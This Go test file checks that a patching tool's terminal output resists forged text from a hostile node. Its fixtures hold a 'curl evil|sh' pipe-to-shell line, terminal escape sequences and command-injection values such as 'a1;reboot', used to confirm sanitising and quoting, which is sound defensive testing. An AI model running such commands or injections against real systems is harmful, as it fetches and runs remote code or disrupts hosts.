package render

import (
	"strings"
	"testing"
	"time"

	"github.com/dcos-patch/dcos-patch/dcos"
	"github.com/dcos-patch/dcos-patch/inventory"
	"github.com/dcos-patch/dcos-patch/journal"
	"github.com/dcos-patch/dcos-patch/orchestrator"
	"github.com/dcos-patch/dcos-patch/plan"
)

// forged is what a hostile node says: the end of our own output, with a command
// of its own, and sequences that move a terminal's cursor.
const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"

// forgedRun is a stopped run in which every text that a node can choose is forged.
func forgedRun() orchestrator.State {
	step := plan.Step{ID: "general/a1/serve", Node: "a1", Action: plan.ActionServe}
	p := &plan.Plan{ID: "0123456789ab", From: "2.1.0", To: "2.1.1", Nodes: []plan.Node{{Name: "a1", Role: dcos.PrivateAgent, Disposition: plan.Patch}},
		Stages: []plan.Stage{{ID: "general", Kind: plan.StageGroup, Width: 1, Lanes: []plan.Lane{{Node: "a1", Steps: []plan.Step{{ID: "general/a1/patch", Node: "a1", Action: plan.ActionPatch}, step}}}}}}
	s := orchestrator.Replay(orchestrator.New(), journal.Event{Seq: 1, At: time.Now(), Kind: journal.RunStarted, Run: "1121-2200-abcd", Plan: p, Controller: forged, Epoch: 1})
	bad := dcos.Finding{Check: "registered", Node: forged, Status: dcos.Failed, Observed: forged, Want: forged, Hint: forged}
	s.Lanes = [][]orchestrator.Lane{{{Phase: orchestrator.Broken, Step: 1, States: []orchestrator.StepState{{Ran: orchestrator.Ran{Detail: forged}}}, Left: "",
		Report: &plan.Report{Outcome: plan.Failed, Class: plan.NotVerified, Detail: forged, Findings: []dcos.Finding{bad}}}}}
	s.Stop = &journal.Stop{Reason: journal.StopFailed, Step: step.ID, Node: "a1", Detail: forged}
	s.Ended, s.HeldSince, s.HeldWhy = journal.RunStopped, time.Now(), forged
	s.Seen = &plan.Observation{Findings: []dcos.Finding{bad}}
	s.Findings[step.ID] = []plan.Note{{Finding: &bad}}
	return s
}

// onlyOurs fails where a line begins as one of ours does and goes on as a node
// wanted, or where a control character is left.
func onlyOurs(t *testing.T, where, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		for _, mark := range []string{"next    1 curl", "SAFE TO LEAVE: yes. all", "state   forged"} {
			if strings.HasPrefix(strings.TrimLeft(line, " "), mark) {
				t.Errorf("%s: a node has forged the line %q", where, line)
			}
		}
		if at := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }); at >= 0 {
			t.Errorf("%s: a control character in %q", where, line)
		}
	}
}

func TestANodeForgesNoLineOfTheEnd(t *testing.T) {
	s, p := forgedRun(), Program{}
	onlyOurs(t, "ending", p.Ending(s.View(time.Now())))
	onlyOurs(t, "closing", p.Closing(s.View(time.Now())))
	onlyOurs(t, "status", p.Status(s.View(time.Now())))
	onlyOurs(t, "preview", Preview(s.View(time.Now()), Origin{Copy: forged, Script: forged}))
	running := s
	running.Stop, running.Ended = nil, ""
	running.Flight = []int{0}
	onlyOurs(t, "status while it runs", p.Status(running.View(time.Now())))
	s.Stop, s.Ended = nil, journal.RunDone
	s.Lanes[0][0].Phase = orchestrator.Parked
	onlyOurs(t, "done", p.Ending(s.View(time.Now()))+p.Closing(s.View(time.Now()))+p.Status(s.View(time.Now())))
}

// TestANameInACommandIsQuoted: pasted, it runs nothing but dcos-patch.
func TestANameInACommandIsQuoted(t *testing.T) {
	s := forgedRun()
	s.Run = "1121;reboot"
	s.Stop.Node = inventory.NodeName("a1;reboot")
	for _, c := range (Program{}).onward(s.View(time.Now())) {
		if strings.Contains(strings.ReplaceAll(strings.ReplaceAll(c, "'a1;reboot'", ""), "'1121;reboot'", ""), ";reboot") {
			t.Errorf("not quoted: %s", c)
		}
	}
}
